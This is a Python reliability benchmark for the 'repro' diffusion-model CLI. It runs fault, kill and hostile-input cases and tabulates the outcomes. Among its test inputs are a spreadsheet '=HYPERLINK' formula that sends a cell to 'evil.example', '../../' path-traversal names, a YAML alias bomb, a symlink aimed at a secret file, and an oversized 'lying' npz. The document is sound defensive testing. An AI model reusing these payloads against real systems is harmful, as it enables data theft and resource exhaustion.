"""The reliability table of issues 17 and 25: hostile input, faults and kills against
``repro`` on the embedded digits models, each case in a fresh directory, written to
``results/reliability.md``. Issue 25's rows are named by its item, "(25.N)"; nothing touches
a real device: a FIFO, a symlink or a directory in the case directory stands in for one.

Each row says what was done, what happened (exit code and the last line on stderr, or the
outcome), what was left on disk and what was lost. Nothing is copied by hand: run from the
repository root, ``python benchmarks/reliability.py`` (about 15 minutes on 2 CPU cores).
"""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import subprocess
import sys
import tempfile
import time
import zipfile
from collections import Counter
from collections.abc import Callable
from pathlib import Path

from repro.infra.atomic import atomic_save_npz
from repro.infra.faults import KILL_ENV, with_ctrl_c

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tests"))
from conftest import failing_mlflow_server  # noqa: E402 - the tests' stand-in server
from test_files import _damage, _lying_npz  # noqa: E402 - the tests' damaged npz files

OUT = Path("results/reliability.md")
SUITE = """name: rel
version: 1
steps: 4
search: {methods: [segment], budgets: [2], n_eval: 3, population: 3, seeds: "0:16",
         fitness: kid}
baselines: [{technique: fewer-steps, keep: [1, 2, 3]}]
evaluation: {seeds: "1000:1256", metrics: ["rfid:digits-cnn"], batch_size: 64, latency: false,
             grid: 0}
tracking: {enabled: false}
experiments: [{name: a, model: digits-ddpm}]
"""
# one fast row of its own (no search), for the cases that need a finished run
TINY = (
    SUITE[: SUITE.index("search:")]
    + "search: {methods: []}\n"
    + SUITE[SUITE.index("baselines:") :].replace("keep: [1, 2, 3]", "keep: [2]")
)
Outcome = tuple[str, str, str]  # what happened, left on disk, lost


class Case:
    """A fresh directory holding ``suite.yaml``, and ``repro`` run in it."""

    def __init__(self, root: Path):
        self.root = root
        self.suite = root / "suite.yaml"
        self.suite.write_text(SUITE)
        self.results = root / "results"
        self.inputs: set[Path] | None = None

    def start(self, *args: str, env: dict | None = None, prefix: tuple = ()) -> subprocess.Popen:
        """``repro ARGS`` started in the case directory (one process, as a user runs it)."""
        if self.inputs is None:  # what the case set up before its first command
            self.inputs = set(self.root.rglob("*"))
        return subprocess.Popen(
            [*prefix, sys.executable, "-m", "repro", *args],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            cwd=self.root,
            preexec_fn=with_ctrl_c,
            env={**os.environ, "REPRO_CACHE": str(self.root / "cache"), **(env or {})},
        )

    def repro(
        self, *args: str, env: dict | None = None, prefix: tuple = (), timeout: float = 600
    ) -> tuple[int, str]:
        """Exit code and stderr of ``repro ARGS``; one that hangs is killed after ``timeout``."""
        process = self.start(*args, env=env, prefix=prefix)
        try:
            err = process.communicate(timeout=timeout)[1]
            return process.returncode, err
        except subprocess.TimeoutExpired:
            process.kill()
            process.communicate()
            return process.returncode, f"HUNG: killed after {timeout:.0f} s"

    def finished(self, text: str = TINY, run_id: str = "x", **kwargs) -> Path:
        """The run directory of ``text`` (default: one row) run to the end."""
        self.suite.write_text(text)
        code, err = self.repro(*self.run_args("--run-id", run_id), **kwargs)
        assert code == 0, err
        return self.results / "rel" / run_id

    def rewritten(self, run: Path, before: dict | None = None) -> dict:
        """Modification times of the run's finished rows and per-seed files; given those of
        before, how many changed."""
        now = {
            p: p.stat().st_mtime_ns
            for p in (*run.glob("work/a/rows/*.json"), *run.glob("per_seed/a/*.npz"))
        }
        return now if before is None else {"n": sum(now.get(p) != t for p, t in before.items())}

    def run_args(self, *extra: str) -> list[str]:
        return [
            "run",
            str(self.suite),
            "--results",
            str(self.results),
            "--quiet",
            "--threads",
            "1",
            *extra,
        ]

    def outcome(self, code: int, err: str) -> str:
        """Exit code, stderr line count and its last line (the case directory as $CASE)."""
        lines = err.strip().splitlines()
        tail = "; traceback" if "Traceback" in err else ""
        last = (lines[-1] if lines else "").replace(str(self.root), "$CASE")
        return f"exit {code}, {len(lines)} line(s){tail}: `{last[:160]}`"

    def left(self) -> str:
        """Files the commands wrote (not those the case set up), the metric cache aside."""
        files = [
            p
            for p in self.root.rglob("*")
            if p.is_file()
            and p not in self.inputs
            and "cache" not in p.relative_to(self.root).parts
        ]
        return f"{len(files)} file(s) written" if files else "nothing"


def input_case(
    text: str | bytes,
    *args: str,
    env: dict | None = None,
    files: dict[str, str | None] | None = None,
) -> Callable[[Case], Outcome]:
    """``repro validate`` (or ``ARGS``) of the suite with ``text`` written over it, beside
    ``files`` (name: content, None for a FIFO no one writes to), under ``env``."""

    def case(c: Case) -> Outcome:
        if text:
            c.suite.write_bytes(text if isinstance(text, bytes) else text.encode())
        for name, content in (files or {}).items():
            if content is None:
                os.mkfifo(c.root / name)
            else:
                (c.root / name).write_text(content)
        code, err = c.repro(*(args or ("validate", str(c.suite))), env=env, timeout=60)
        return c.outcome(code, err), c.left(), "-"

    return case


def escaping_name(c: Case) -> Outcome:
    c.suite.write_text(SUITE.replace("name: rel", "name: ../../escaped"))
    code, err = c.repro(*c.run_args())
    escaped = (c.root.parent / "escaped").exists() or (c.root / "escaped").exists()
    return c.outcome(code, err), c.left() + ("; escaped!" if escaped else ""), "-"


def busy_run_id(c: Case) -> Outcome:
    """A run holding run id x while a second process starts on x."""
    first = c.start(*c.run_args("--run-id", "x"))
    _wait_for(c.results / "rel" / "x" / "work" / "state.json", first)
    code, err = c.repro(*c.run_args("--run-id", "x"))
    first.communicate(timeout=600)
    return c.outcome(code, err) + f"; the first exits {first.returncode}", c.left(), "nothing"


def _wait_for(path: Path, process: subprocess.Popen, timeout: float = 300) -> None:
    deadline = time.monotonic() + timeout
    while not path.exists() and process.poll() is None and time.monotonic() < deadline:
        time.sleep(0.02)


def ctrl_c(c: Case) -> Outcome:
    """SIGINT right after the teacher row is written (``REPRO_KILL_AT``, deterministic),
    then the same command again: finished rows redone counts what was lost."""
    rows = c.results / "rel" / "x" / "work" / "a" / "rows"
    code, err = c.repro(*c.run_args("--run-id", "x"), env={KILL_ENV: "row:1:INT"})
    before = {p.name: p.stat().st_mtime_ns for p in rows.glob("*.json")}
    left = f"{len(before)} finished row(s) of 5 under work/"
    rerun, _ = c.repro(*c.run_args("--run-id", "x"))
    redone = sum(
        p.stat().st_mtime_ns != before[p.name] for p in rows.glob("*.json") if p.name in before
    )
    return (
        c.outcome(code, err) + f"; rerun exit {rerun}",
        left,
        f"{redone} finished row(s) redone",
    )


def killed_at(stage: str) -> Callable[[Case], Outcome]:
    """SIGKILL right after the stage's first unit of work is on disk (``REPRO_KILL_AT``,
    deterministic), then the same command: work files rewritten count what was lost."""

    def case(c: Case) -> Outcome:
        c.suite.write_text(
            SUITE.replace(  # every stage present, the latency table included
                "latency: false", "latency: true, latency_batch: 2, latency_repeats: 1"
            )
        )
        code, err = c.repro(*c.run_args("--run-id", "x"), env={KILL_ENV: f"{stage}:1"})
        work = c.results / "rel" / "x" / "work" / "a"
        before = {
            p: p.stat().st_mtime_ns
            for p in work.rglob("*")
            if p.is_file() and p.name != "search.jsonl"
        }
        rerun, _ = c.repro(*c.run_args("--run-id", "x"))
        # finished shards are merged and removed once their samples are kept whole
        rewritten = sum(p.exists() and p.stat().st_mtime_ns != mtime for p, mtime in before.items())
        return (
            c.outcome(code, err) + f"; rerun exit {rerun}",
            f"{len(before)} work file(s)",
            f"{rewritten} of them written again",
        )

    return case


def torn_search_log(c: Case) -> Outcome:
    """The last logged candidate cut mid-line, then the same command twice: the first
    scores it again and appends, the second reads the log back."""
    args = c.run_args("--run-id", "x")
    assert c.repro(*args)[0] == 0
    log = c.results / "rel" / "x" / "work" / "a" / "search.jsonl"
    *whole, last = log.read_text().splitlines()
    log.write_text("\n".join(whole) + "\n" + last[:20])
    first, _ = c.repro(*args)
    code, err = c.repro(*args)
    return (
        c.outcome(code, err) + f" (the first rerun: exit {first})",
        f"{len(log.read_text().splitlines())} log lines",
        "the torn candidate's score",
    )


def broken_samples(
    damage: Callable[[Path], None], model: str = "digits-ddpm"
) -> Callable[[Case], Outcome]:
    """``repro eval`` of a sampled file after ``damage``, its untouched copy the teacher."""

    def case(c: Case) -> Outcome:
        path, teacher = c.root / "s.npz", c.root / "teacher.npz"
        assert (
            c.repro(
                "sample",
                "--model",
                model,
                "--steps",
                "2",
                "--seeds",
                "0:8",
                "--out",
                str(path),
                "--quiet",
            )[0]
            == 0
        )
        teacher.write_bytes(path.read_bytes())
        damage(path)
        code, err = c.repro(
            "eval", str(path), "--metric", "rfid:digits-cnn", "--teacher", str(teacher)
        )
        return c.outcome(code, err), c.left(), "-"

    return case


def _fields(path: Path) -> dict:
    import numpy as np

    with np.load(path) as stored:
        return {k: stored[k] for k in stored.files}


def _all(field: str, value: int) -> Callable[[Path], None]:
    """Every entry of the samples file's ``field`` set to ``value``."""

    def damage(path: Path) -> None:
        import numpy as np

        fields = _fields(path)
        np.savez(path, **{**fields, field: np.full_like(fields[field], value)})

    return damage


def _deflate_damaged(path: Path) -> None:
    """The samples file compressed, then its images' deflate stream broken."""
    import numpy as np

    np.savez_compressed(path, **_fields(path))
    _damage(path, "images.npy")


def read_only(where: str) -> Callable[[Case], Outcome]:
    """A read-only bind mount in a private mount namespace (as root modes do not bind)."""

    def case(c: Case) -> Outcome:
        ro = c.root / "ro"
        ro.mkdir()
        mount = f"mount --bind {ro} {ro} && mount -o remount,bind,ro {ro}"
        prefix = ("unshare", "-rm", "sh", "-c", f'{mount} && exec "$@"', "sh")
        if where == "--results":
            code, err = c.repro(*c.run_args()[:3], str(ro), "--quiet", prefix=prefix)
        else:
            code, err = c.repro(*c.run_args(), env={"REPRO_CACHE": str(ro)}, prefix=prefix)
        return c.outcome(code, err), c.left(), "nothing (checked before sampling)"

    return case


def corrupted_cache(c: Case) -> Outcome:
    assert c.repro(*c.run_args("--run-id", "x"))[0] == 0
    for path in (c.root / "cache").rglob("*.npz"):
        path.write_bytes(b"PK\x03\x04 torn")
    code, err = c.repro(*c.run_args("--run-id", "y"))
    return c.outcome(code, err), c.left(), "-"


def failing_server(c: Case) -> Outcome:
    """An MLflow URL whose /health answers and every API call fails with 503."""
    c.suite.write_text(SUITE.replace("tracking: {enabled: false}", "tracking: {}"))
    started = time.monotonic()
    with failing_mlflow_server() as (uri, failed):
        code, err = c.repro(*c.run_args("--tracking-uri", uri))
    return (
        c.outcome(code, err) + f" after {time.monotonic() - started:.0f} s and "
        f"{len(failed)} failed API calls",
        c.left() + " (results.json, no work/mlflow.json)",
        "nothing: a rerun logs",
    )


# -- issue 25 ---------------------------------------------------------------------------------
def reference_changed(c: Case) -> Outcome:
    """(1) FID against a reference file of the case; SIGINT after the teacher row, the file
    rewritten with other digits, the same command; then a fresh run id on the new file."""
    from repro.models.zoo.data import digits_images
    from repro.sampling.samples import to_uint8

    ref = c.root / "ref.npz"
    c.suite.write_text(
        TINY.replace(
            'metrics: ["rfid:digits-cnn"]', f'metrics: ["fid:digits-cnn"], reference: "{ref}"'
        )
    )
    images = to_uint8(digits_images()[0])
    atomic_save_npz(ref, arr_0=images[:300])
    code, err = c.repro(*c.run_args("--run-id", "x"), env={KILL_ENV: "row:1:INT"})
    before = c.rewritten(c.results / "rel" / "x")
    atomic_save_npz(ref, arr_0=images[1000:1300])
    rerun, _ = c.repro(*c.run_args("--run-id", "x"))
    redone = c.rewritten(c.results / "rel" / "x", before)["n"]
    fresh = c.finished(c.suite.read_text(), run_id="y")

    def fids(run: Path) -> list:
        return [
            row["metrics"]["fid:digits-cnn"]
            for row in json.loads((run / "results.json").read_text())["rows"]
        ]

    same = fids(fresh.parent / "x") == fids(fresh)
    return (
        c.outcome(code, err)
        + f"; rerun exit {rerun}: every FID "
        + ("equals a fresh run's on the new file" if same else "DIFFERS from a fresh run"),
        c.left(),
        f"{redone} of {len(before)} finished row files (the old file's) made again",
    )


def gated(old: str, new: str) -> Callable[[Case], Outcome]:
    """(2) ``repro gate`` of a run with ``old`` in its suite changed to ``new`` against it."""

    def case(c: Case) -> Outcome:
        baseline = c.finished()
        code, err = c.repro("gate", str(c.finished(TINY.replace(old, new), "y")), str(baseline))
        return c.outcome(code, err), c.left(), "-"

    return case


def tracking_edited(c: Case) -> Outcome:
    """(4) ``tracking:`` edited after a finished run, then ``--run-id`` of that run."""
    run = c.finished()
    before = c.rewritten(run)
    c.suite.write_text(
        TINY.replace(
            "tracking: {enabled: false}", "tracking: {enabled: false, experiment: elsewhere}"
        )
    )
    code, err = c.repro(*c.run_args("--run-id", "x"))
    return (
        c.outcome(code, err),
        c.left(),
        f"{c.rewritten(run, before)['n']} of {len(before)} row files made again",
    )


def store_killed(c: Case) -> Outcome:
    """(5) SIGKILL while MLflow creates a new sqlite store (its file past 50 kB, tables and
    migrations under way), then the same command."""
    c.suite.write_text(TINY.replace("tracking: {enabled: false}", "tracking: {}"))
    args = c.run_args("--tracking-uri", f"sqlite:///{c.root}/mlflow.db")
    first = c.start(*args)
    deadline = time.monotonic() + 300
    while (
        first.poll() is None
        and time.monotonic() < deadline
        and not any(p.stat().st_size > 50_000 for p in c.root.glob("*mlflow.db*"))
    ):
        time.sleep(0.01)
    first.kill()
    first.communicate()
    stray = len(list(c.root.glob(".mlflow.db.*")))
    code, err = c.repro(*args)
    return (
        f"killed (exit {first.returncode}); the same command: " + c.outcome(code, err),
        c.left() + f", {stray} stray temporary store file(s)",
        "nothing",
    )


def half_made_store(c: Case) -> Outcome:
    """(5) A store a kill left half-made before the fix (alembic's temporary table)."""
    import sqlite3

    c.suite.write_text(TINY.replace("tracking: {enabled: false}", "tracking: {}"))
    with sqlite3.connect(c.root / "mlflow.db") as db:
        db.execute("create table _alembic_tmp_tags (key text)")
    code, err = c.repro(*c.run_args("--tracking-uri", f"sqlite:///{c.root}/mlflow.db"))
    return c.outcome(code, err), c.left(), "nothing (checked before sampling)"


def _bad_crc(path: Path, member: str) -> None:
    """The member's CRC-32 changed where the zip records it (local and central headers)."""
    with zipfile.ZipFile(path) as archive:
        crc = archive.getinfo(member).CRC
    path.write_bytes(
        path.read_bytes().replace(crc.to_bytes(4, "little"), (crc ^ 1).to_bytes(4, "little"))
    )


def per_seed_damaged(damage: Callable[[Path, str], None]) -> Callable[[Case], Outcome]:
    """(6) A finished row's per-seed file damaged, then the same command."""

    def case(c: Case) -> Outcome:
        run = c.finished()
        row = run / "per_seed" / "a" / "fewer-steps-2.npz"
        damage(row, "features:digits-cnn.npy")
        before = c.rewritten(run)
        code, err = c.repro(*c.run_args("--run-id", "x"))
        return (
            c.outcome(code, err),
            c.left(),
            f"{c.rewritten(run, before)['n']} of "
            f"{len(before)} row files made again (the damaged row's)",
        )

    return case


def _stand_ins(c: Case) -> dict[str, Path]:
    """A symlink to a file of the case, a FIFO no one reads, a directory: what /dev/null,
    /dev/full or a link would be to a write."""
    victim = c.root / "victim.txt"
    victim.write_text("keep me")
    targets = {"symlink": c.root / "link", "FIFO": c.root / "fifo", "directory": c.root / "dir"}
    targets["symlink"].symlink_to(victim)
    os.mkfifo(targets["FIFO"])
    targets["directory"].mkdir()
    return targets


def out_on(kind: str, *command: str) -> Callable[[Case], Outcome]:
    """(7, 16) ``COMMAND --out`` (or the last option) on a stand-in of ``kind``."""

    def case(c: Case) -> Outcome:
        target = _stand_ins(c)[kind]
        run = c.root / "run"
        run.mkdir()
        (run / "results.json").write_text(
            json.dumps({"schema": "flexiffusion-repro/results@1", "run_id": "x", "rows": []})
        )
        code, err = c.repro(*command, str(target), timeout=60)
        kept = (c.root / "victim.txt").read_text() == "keep me" and (
            target.is_symlink()
            if kind == "symlink"
            else target.is_fifo()
            if kind == "FIFO"
            else target.is_dir()
        )
        return (c.outcome(code, err), f"the {kind} " + ("as it was" if kept else "REPLACED"), "-")

    return case


def umask_022(c: Case) -> Outcome:
    """(8) A run under umask 022: the modes of every file it and the metric cache wrote."""
    c.finished(prefix=("sh", "-c", 'umask 022 && exec "$@"', "sh"))
    modes = Counter(
        f"{p.stat().st_mode & 0o777:o}" for p in c.root.rglob("*") if p.is_file() and p != c.suite
    )
    return (
        "exit 0; modes " + ", ".join(f"{m}: {n} files" for m, n in sorted(modes.items())),
        c.left(),
        "-",
    )


def symlinked_plot(c: Case) -> Outcome:
    """(9) A finished run's pareto.png replaced by a symlink to a file of the case."""
    run = c.finished()
    secret = c.root / "secret.png"
    secret.write_bytes(b"\x89PNG\r\n\x1a\ntop secret")
    (run / "pareto.png").unlink()
    (run / "pareto.png").symlink_to(secret)
    code, err = c.repro("report", str(run), "--format", "html", "--out", "page.html")
    page = (c.root / "page.html").read_text()
    shown = "top secret" in page or "dG9wIHNlY3JldA" in page  # base64 of its text too
    said = "refused" in page
    return (
        c.outcome(code, err)
        + (
            "; the file it points to EMBEDDED"
            if shown
            else f"; not embedded{', page says refused' if said else ''}"
        ),
        c.left(),
        "-",
    )


def hostile_row_name(c: Case) -> Outcome:
    """(10) A row named ``=HYPERLINK(...)`` with a newline and a bar, run to the end."""
    name = '"=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"click\\")\\nsecond | row"'
    run = c.finished(TINY.replace("keep: [2]}", f"keep: [2], name: {name}}}"))
    cells = [
        cell for row in csv.reader(io.StringIO((run / "table.csv").read_text())) for cell in row
    ]
    hostile = next(cell for cell in cells if "HYPERLINK" in cell)
    md = (run / "table.md").read_text().splitlines()
    return (
        f"exit 0; its table.csv cell starts `{hostile[:3]}`, "
        f"{sum(cell.startswith('=') for cell in cells)} cells start with `=`; "
        f"table.md {len(md)} lines for 2 rows",
        c.left(),
        "-",
    )


def lying_npz(c: Case) -> Outcome:
    """(11) A 5 MB samples file declaring 20M images of 16x16, to ``repro eval``; its peak
    resident memory (/usr/bin/time) beside that of the same command on a missing file."""
    import numpy as np

    path = _lying_npz(
        c.root / "s.npz",
        (20_000_000, 16, 16, 1),
        bytes(5 << 20),
        seeds=np.arange(4),
        model=np.array("digits-ddpm"),
    )

    def peak(samples: str) -> tuple[int, str, float]:
        code, err = c.repro(
            "eval",
            samples,
            "--metric",
            "rfid:digits-cnn",
            "--teacher",
            samples,
            prefix=("/usr/bin/time", "-f", "%M", "-o", "rss"),
        )
        return code, err, int((c.root / "rss").read_text().split()[-1]) / 2**20

    code, err, used = peak(str(path))
    return (
        c.outcome(code, err) + f"; peak memory {used:.2f} GiB ({peak('missing.npz')[2]:.2f}"
        " GiB on a missing file)",
        c.left(),
        "-",
    )


def disk_full(c: Case) -> Outcome:
    """(14) ``--results`` on a 64 kB tmpfs (a private mount namespace), then the tmpfs grown
    to 64 MB and the same command."""
    c.suite.write_text(TINY)
    c.results.mkdir()
    script = (
        f'mount -t tmpfs -o size=64k t {c.results} && {{ "$@" 2>err; echo $? >code; }}; '
        f'mount -o remount,size=64m {c.results} && "$@" && '
        f"cp {c.results}/rel/x/results.json kept.json"
    )
    rerun, err = c.repro(
        *c.run_args("--run-id", "x"), prefix=("unshare", "-rm", "sh", "-c", script, "sh")
    )
    code = int((c.root / "code").read_text())
    rows = len(json.loads((c.root / "kept.json").read_text())["rows"]) if rerun == 0 else 0
    return (
        c.outcome(code, (c.root / "err").read_text())
        + f"; grown, rerun exit {rerun}"
        + (f" ({err.strip()[-80:]})" if rerun else ""),
        f"results.json of {rows} rows once grown",
        "-",
    )


def two_first_runs(c: Case) -> Outcome:
    """(13) Two runs at once, each the first to log to a sqlite store in an empty folder."""
    c.suite.write_text(TINY.replace("tracking: {enabled: false}", "tracking: {}"))
    runs = [
        c.start(*c.run_args("--run-id", r, "--tracking-uri", f"sqlite:///{c.root}/m.db"))
        for r in "xy"
    ]
    (_, err), (_, second) = (r.communicate(timeout=900) for r in runs)
    return (
        c.outcome(runs[0].returncode, err)
        + "; the other: "
        + c.outcome(runs[1].returncode, second),
        c.left(),
        "nothing",
    )


def _free_port() -> str:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return str(probe.getsockname()[1])


def list_checkpoint(c: Case) -> Outcome:
    """(16) ``repro convert`` of a checkpoint holding a list."""
    import torch

    torch.save([1, 2], c.root / "model.ckpt")
    return input_case("", "convert", "adm", "model.ckpt", "out")(c)


def _bomb() -> str:
    levels = ["  - &a [" + ", ".join(["lol"] * 9) + "]"]
    levels += [f"  - &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]" for i in range(8)]
    return "description:\n" + "\n".join(levels) + "\n" + SUITE


CASES: list[tuple[str, Callable[[Case], Outcome]]] = [
    (
        "experiments `digits ddpm` and `digits-ddpm` (one folder name)",
        input_case(
            SUITE.replace(
                "[{name: a, model: digits-ddpm}]",
                "[{name: digits ddpm, model: "
                "digits-ddpm}, {name: digits-ddpm, model: digits-cond}]",
            )
        ),
    ),
    ("`name: ../../escaped` then `repro run`", escaping_name),
    (
        "`repro run --run-id ../../escaped`",
        lambda c: input_case("", *c.run_args("--run-id", "../../escaped"))(c),
    ),
    ("a second `repro run` on a run id in use", busy_run_id),
    ("SIGINT (Ctrl-C) right after the teacher row, then the same command", ctrl_c),
    *(
        (
            f"SIGKILL right after the first {stage} unit is written, then the same command",
            killed_at(stage),
        )
        for stage in ("teacher", "candidate", "shard", "row", "latency", "results")
    ),
    ("a torn last line in search.jsonl, then more candidates", torn_search_log),
    ("a suite file that is not UTF-8", input_case("name: caf\xe9\n".encode("latin-1"))),
    ("`repro validate /dev/zero`", lambda c: input_case("", "validate", "/dev/zero")(c)),
    ("`repro validate` of a directory", lambda c: input_case("", "validate", str(c.root))(c)),
    ("an empty samples.npz to `repro eval`", broken_samples(lambda p: p.write_bytes(b""))),
    (
        "a truncated samples.npz to `repro eval`",
        broken_samples(lambda p: p.write_bytes(p.read_bytes()[:300])),
    ),
    (
        "`repro sample --steps -1`",
        lambda c: input_case(
            "", "sample", "--model", "digits-ddpm", "--steps", "-1", "--out", "s.npz"
        )(c),
    ),
    ("a read-only `--results`", read_only("--results")),
    ("a read-only `REPRO_CACHE`", read_only("REPRO_CACHE")),
    ("every metric cache file corrupted", corrupted_cache),
    (
        "`labels: [3, 10]` on digits-cond",
        input_case(SUITE.replace("model: digits-ddpm}", "model: digits-cond, labels: [3, 10]}")),
    ),
    ("a YAML alias bomb (9^9 strings, 400 bytes)", input_case(_bomb())),
    (
        '`seeds: "0:2000000000"`',
        input_case(SUITE.replace('seeds: "1000:1256"', 'seeds: "0:2000000000"')),
    ),
    (
        "3000 budgets",
        input_case(SUITE.replace("budgets: [2]", "budgets: [" + ", ".join(["2"] * 3000) + "]")),
    ),
    (
        "`guidance: .nan`",
        input_case(SUITE.replace("model: digits-ddpm}", "model: digits-cond, guidance: .nan}")),
    ),
    ("duplicate seeds", input_case(SUITE.replace('"1000:1256"', '"1001,1002,1001"'))),
    ("`metrics: []`", input_case(SUITE.replace('metrics: ["rfid:digits-cnn"]', "metrics: []"))),
    ("`tol: -1`", input_case(SUITE.replace("fitness: kid}", "fitness: kid, tol: -1}"))),
    ("`steps: true`", input_case(SUITE.replace("steps: 4", "steps: true"))),
    ("`generations: -3`", input_case(SUITE.replace("population: 3", "generations: -3"))),
    ("a duplicate YAML key", input_case(SUITE.replace("steps: 4\n", "steps: 4\nsteps: 8\n"))),
    ("a search budget below 1x", input_case(SUITE.replace("budgets: [2]", "budgets: [0.5]"))),
    (
        "a cost_table file that does not exist",
        input_case(SUITE.replace("steps: 4\n", "steps: 4\ncost_table: missing.json\n")),
    ),
    ("an MLflow server failing every call (HTTP 503)", failing_server),
    # -- issue 25 --------------------------------------------------------------------------
    ("(25.1) the reference file rewritten between a Ctrl-C and the resume", reference_changed),
    (
        "(25.2) `repro gate` of a digits-cond run against a digits-ddpm run",
        gated("model: digits-ddpm}", "model: digits-cond}"),
    ),
    (
        "(25.2) `repro gate` of a `steps: 8` run against the `steps: 4` run of the same suite",
        gated("steps: 4", "steps: 8"),
    ),
    (
        "(25.3) `repro eval` of a samples file whose seeds are all 0",
        broken_samples(_all("seeds", 0)),
    ),
    (
        "(25.3) `repro eval` of a digits-cond samples file with labels 99",
        broken_samples(_all("labels", 99), "digits-cond"),
    ),
    ("(25.4) `tracking:` edited, then `--run-id` of the finished run", tracking_edited),
    (
        "(25.4) a 600-character `tracking.experiment`",
        input_case(
            TINY.replace("tracking: {enabled: false}", f"tracking: {{experiment: {'e' * 600}}}")
        ),
    ),
    ("(25.5) SIGKILL while MLflow creates a new sqlite store, then the same command", store_killed),
    (
        "(25.5) a sqlite store half-made by such a kill before (`_alembic_tmp_tags`)",
        half_made_store,
    ),
    (
        "(25.6) a finished row's per-seed file with a bad CRC, then the same command",
        per_seed_damaged(_bad_crc),
    ),
    (
        "(25.6) a finished row's per-seed file with a broken deflate stream, then the same command",
        per_seed_damaged(_damage),
    ),
    (
        "(25.7) `repro report --out` a symlink to another file",
        out_on("symlink", "report", "run", "--out"),
    ),
    (
        "(25.7) `repro report --format html --out` a FIFO (a device's stand-in)",
        out_on("FIFO", "report", "run", "--format", "html", "--out"),
    ),
    (
        "(25.7) `repro sample --out` a FIFO (a device's stand-in, as /dev/full)",
        out_on(
            "FIFO", "sample", "--model", "digits-ddpm", "--steps", "2", "--seeds", "0:4", "--out"
        ),
    ),
    (
        "(25.7) `repro sample --out` a symlink to another file",
        out_on(
            "symlink", "sample", "--model", "digits-ddpm", "--steps", "2", "--seeds", "0:4", "--out"
        ),
    ),
    ("(25.8) a run under umask 022", umask_022),
    (
        "(25.9) `repro report --format html` of a run whose pareto.png is a symlink out of it",
        symlinked_plot,
    ),
    ("(25.10) a row named `=HYPERLINK(...)` with a newline and a `|`", hostile_row_name),
    ("(25.11) a 5 MB samples file declaring 20M images to `repro eval`", lying_npz),
    (
        "(25.12) `cost_table: /dev/zero`",
        input_case(TINY.replace("steps: 4\n", "steps: 4\ncost_table: /dev/zero\n")),
    ),
    (
        "(25.12) a FIFO as the cost table",
        input_case(
            TINY.replace("steps: 4\n", "steps: 4\ncost_table: fifo\n"), files={"fifo": None}
        ),
    ),
    (
        "(25.12) `repro validate` of a FIFO",
        input_case("", "validate", "fifo", files={"fifo": None}),
    ),
    ("(25.13) two first runs at once logging to a new sqlite store", two_first_runs),
    (
        "(25.13) a `postgresql://` tracking URI without psycopg installed",
        lambda c: input_case(
            TINY.replace("tracking: {enabled: false}", "tracking: {}"),
            *c.run_args("--tracking-uri", "postgresql://nobody@127.0.0.1/none"),
        )(c),
    ),
    ("(25.14) the disk full under `--results` (a 64 kB tmpfs), then grown", disk_full),
    (
        "(25.15) a 300-character experiment name",
        input_case(TINY.replace("{name: a,", f"{{name: {'x' * 300},")),
    ),
    (
        "(25.15) a 300-character row name",
        input_case(TINY.replace("keep: [2]}", f"keep: [2], name: {'x' * 300}}}")),
    ),
    (
        "(25.15) `latency_batch: 1000000000`",
        input_case(TINY.replace("latency: false", "latency: true, latency_batch: 1000000000")),
    ),
    (
        "(25.15) a cost table with a negative cost",
        input_case(
            TINY.replace("steps: 4\n", "steps: 4\ncost_table: costs.json\n"),
            files={"costs.json": '{"partial": {"0": -0.5}}'},
        ),
    ),
    ("(25.16) `repro convert` of a checkpoint holding a list", list_checkpoint),
    (
        "(25.16) a compressed samples.npz with a broken deflate stream to `repro eval`",
        broken_samples(_deflate_damaged),
    ),
    (
        "(25.16) `SLURM_NTASKS=abc`",
        lambda c: input_case(TINY, *c.run_args(), env={"SLURM_NTASKS": "abc"})(c),
    ),
    (
        "(25.16) rank 0 of 2 whose other rank never joins (3 s rendezvous)",
        lambda c: input_case(
            TINY,
            *c.run_args(),
            env={
                "RANK": "0",
                "WORLD_SIZE": "2",
                "MASTER_ADDR": "127.0.0.1",
                "MASTER_PORT": _free_port(),
                "REPRO_DIST_TIMEOUT": "3",
            },
        )(c),
    ),
    (
        "(25.16) `--results` a dangling symlink",
        lambda c: (c.results.symlink_to(c.root / "nowhere"), input_case(TINY, *c.run_args())(c))[1],
    ),
    (
        "(25.16) `--results` a symlink loop",
        lambda c: (c.results.symlink_to(c.results), input_case(TINY, *c.run_args())(c))[1],
    ),
    (
        "(25.16) `repro sample --out` a directory",
        out_on(
            "directory",
            "sample",
            "--model",
            "digits-ddpm",
            "--steps",
            "2",
            "--seeds",
            "0:4",
            "--out",
        ),
    ),
    (
        "(25.16) `repro search --log` a directory",
        out_on(
            "directory",
            "search",
            "--model",
            "digits-ddpm",
            "--steps",
            "4",
            "--budget",
            "2",
            "--log",
        ),
    ),
    (
        "(25.16) `--threads -5`",
        input_case(
            "",
            "sample",
            "--model",
            "digits-ddpm",
            "--steps",
            "2",
            "--threads",
            "-5",
            "--out",
            "s.npz",
        ),
    ),
    (
        "(25.16) `--seeds 18446744073709551615`",
        input_case(
            "",
            "sample",
            "--model",
            "digits-ddpm",
            "--steps",
            "2",
            "--seeds=18446744073709551615",
            "--out",
            "s.npz",
        ),
    ),
]


def main() -> None:
    from repro.infra.provenance import git_state
    from repro.infra.timing import device_name

    commit, rows = git_state()["git_commit"], []  # the code under test, before anything runs
    for name, case in CASES:
        with tempfile.TemporaryDirectory() as tmp:
            started = time.monotonic()
            happened, left, lost = case(Case(Path(tmp)))
            rows.append((name, happened, left, lost))
            print(f"{time.monotonic() - started:5.0f} s  {name}: {happened}", file=sys.stderr)
    lines = [
        "# Reliability: hostile input, faults and kills (issues 17 and 25)",
        "",
        f"Written by `python benchmarks/reliability.py` at commit {commit} on "
        f"{device_name('cpu')}, each case in a fresh directory with its own metric "
        "cache. Exit 2 is bad input (one line), 1 a named failure, 130 an interrupt, "
        "-9 a SIGKILL, 0 success. Rows (25.N) are issue 25's item N; a FIFO, a symlink "
        "or a directory of the case stands in for a device.",
        "",
        "| case | what happened | left on disk | lost |",
        "|---|---|---|---|",
    ]
    lines += [f"| {' | '.join(cell.replace('|', '/') for cell in row)} |" for row in rows]
    OUT.write_text("\n".join(lines) + "\n")
    print(OUT)


if __name__ == "__main__":
    main()
